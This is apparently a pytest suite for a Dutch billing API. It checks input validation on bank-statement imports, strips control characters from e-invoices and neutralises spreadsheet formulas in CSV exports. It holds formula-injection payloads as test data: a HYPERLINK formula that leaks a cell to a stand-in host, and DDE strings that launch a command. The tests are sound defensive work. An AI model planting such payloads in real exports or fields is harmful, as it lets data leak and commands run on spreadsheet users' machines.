"""Issue 12's billing items: bad input is a 4xx naming the field, never a 5xx; control characters
never break an e-invoice; CSV exports cannot carry a spreadsheet formula."""

import csv
import io
from pathlib import Path

import pytest
from lxml import etree

from tests.fixtures import billing_events as ev

API = "/billing/api/v1/entities/BRIN-25LH"
SETTINGS = {
    "kvk": "39082468",
    "vat_number": "NL001234567B01",
    "iban": "NL91ABNA0417164300",
    "street": "Educatorenweg 2",
    "city": "Almere",
    "postcode": "1325 AA",
}
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'


@pytest.fixture
async def billed(billing):
    await billing.feed(ev.provider_registered(), ev.offering_published(), ev.cohort(), ev.enrolled("ENR-1"))
    assert (await billing.client.patch(API, json=SETTINGS, headers=billing.headers())).status_code == 200
    return billing


@pytest.mark.parametrize(
    ("statement", "rows"),
    [
        ("date;amount;reference\r2026-09-20;12,00;Factuur 25LH-PRV-2026-000001\r", 1),  # bare CR ends a row
        ("date;amount;reference\r\n2026-09-20;12,00;Factuur\x00 25LH-PRV-2026-000001\r\n", 1),
    ],
    ids=["bare CR", "NUL in a text"],
)
async def test_a_statement_with_odd_line_ends_or_control_characters_is_read(billed, statement, rows):
    answer = await billed.client.post(
        f"{API}/payment-imports", json={"csv": statement}, headers=billed.headers()
    )
    assert answer.status_code == 201, answer.text
    body = answer.json()
    assert len(body["rows"]) == rows and body["rows"][0]["match"] == "matched"
    assert "\x00" not in body["rows"][0]["remittance"]


@pytest.mark.parametrize(
    ("statement", "status"),
    [
        ("date;amount;reference\n2026-09-20;99999999999999999999,00;x\n", 422),
        ("date;amount;reference\n2026-09-20;" + "9" * 5000 + ";x\n", 422),
        ("date;amount;reference\n2026-09-20;12,00;a\rb\r", 422),  # the CR ends the row: "b" is no date
        ('date;amount;reference\n2026-09-20;12,00;"open quote\n', 201),  # the quote runs to the end
    ],
    ids=["huge amount", "5000 digits", "CR inside a row", "open quote"],
)
async def test_an_odd_statement_is_a_4xx_naming_the_row_never_a_5xx(billed, statement, status):
    headers = billed.headers()
    answer = await billed.client.post(f"{API}/payment-imports", json={"csv": statement}, headers=headers)
    assert answer.status_code == status, answer.text
    if status == 422:
        problem = answer.json()
        assert problem["field"] == "csv" and problem["detail"].startswith("rij "), problem
    page = await billed.client.post("/billing/betalingen/import", data={"csv": statement}, headers=headers)
    assert page.status_code == (200 if status == 201 else status)


async def test_a_huge_amount_in_a_camt053_statement_is_a_422(billed):
    camt = (Path(__file__).parent / "statements" / "camt053_001_02.xml").read_text(encoding="utf-8")
    huge = camt.replace(">2500.00</Amt>", ">123456789012345.00</Amt>")
    assert huge != camt
    answer = await billed.client.post(
        f"{API}/payment-imports", json={"format": "camt053", "content": huge}, headers=billed.headers()
    )
    assert answer.status_code == 422 and "1.000.000.000" in answer.json()["detail"]


async def test_control_characters_from_events_never_break_the_ubl(billed, validator):
    """The register refuses them at input; names arriving in events are cleaned at output."""
    await billed.feed(ev.provider_registered(name="ROC van\x01 Flevoland"))
    payer = ev.EMPLOYER | {
        "payer_id": "KVK-61234567",
        "endpoint": "61234567",
        "name": "Bouw\x0bbedrijf\x00 Flevo",
    }
    await ev.register_payer(
        billed.db,
        "BRIN-25LH",
        "KVK-61234567",
        {"street": "Havenweg 12", "postcode": "1314 CA", "city": "Almere"},
    )
    await billed.feed(ev.enrolled("ENR-2", payers=[payer]))
    (invoice,) = await billed.documents(enrolment_id="ENR-2")
    ubl = await billed.client.get(f"{API}/documents/{invoice['number']}/ubl", headers=billed.headers())
    assert ubl.status_code == 200, ubl.text
    root = etree.fromstring(ubl.content)
    assert root.findtext("{*}AccountingCustomerParty/{*}Party/{*}PartyName/{*}Name") == "Bouw bedrijf  Flevo"
    assert root.findtext("{*}AccountingSupplierParty/{*}Party/{*}PartyName/{*}Name") == "ROC van  Flevoland"
    assert validator.xsd_errors(ubl.content) == []
    pdf = await billed.client.get(f"{API}/documents/{invoice['number']}/pdf", headers=billed.headers())
    assert pdf.status_code == 200


def cells(text):
    return [row for row in csv.reader(io.StringIO(text))]


async def test_the_ageing_export_neutralises_a_formula_in_a_payer_name(billed):
    details = {"name": FORMULA, "kind": "employer", "scheme": "0106", "endpoint": "61234567"}
    address = {"street": "Havenweg 12", "postcode": "1314 CA", "city": "Almere"}
    put = await billed.client.put(
        f"{API}/payers/KVK-61234567", json=details | address, headers=billed.headers()
    )
    assert put.status_code == 200, put.text
    payer = ev.EMPLOYER | {"payer_id": "KVK-61234567", "endpoint": "61234567"}
    await billed.feed(ev.enrolled("ENR-3", payers=[payer]))
    export = await billed.client.get(f"{API}/reports/ageing?format=csv", headers=billed.headers())
    names = [row[1] for row in cells(export.text)[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


async def test_the_overrides_export_neutralises_formulas_in_reasons(billed):
    model = {
        "teaching_hours": 200,
        "hourly_cost_cents": 9_500,
        "materials_cents_per_seat": 15_000,
        "rooms_cents": 240_000,
        "examination_cents_per_seat": 12_500,
        "development_cents": 600_000,
        "development_runs": 4,
        "overhead_bp": 1_500,
        "seats_basis": 12,
    }
    for reason in ("+cmd|' /C calc'!A0 besluit", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"):
        body = {"model": model, "override": {"reason": reason}}
        put = await billed.client.put(f"{API}/cost-models/cohort/COH-1", json=body, headers=billed.headers())
        assert put.status_code == 200, put.text
        export = await billed.client.get(f"{API}/reports/overrides?format=csv", headers=billed.headers())
        text = export.text
        assert f"'{reason}" in text and f",{reason}" not in text


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"buyer_reference": "PO\x0b77"}, "buyer_reference"),
        ({"lines": [{"description": "Extra\x00begeleiding", "unit_price_cents": 100}]}, "description"),
    ],
)
async def test_control_characters_in_a_manual_invoice_are_a_422_naming_the_field(billed, change, field):
    body = {
        "payer_id": "KVK-39084217",
        "buyer_reference": "PO-77",
        "reason": "extra_begeleiding",
        "lines": [{"description": "Extra begeleiding", "unit_price_cents": 100}],
    } | change
    answer = await billed.client.post(f"{API}/invoices", json=body, headers=billed.headers())
    assert answer.status_code == 422 and field in answer.text
    assert await billed.documents(purpose="manual") == []
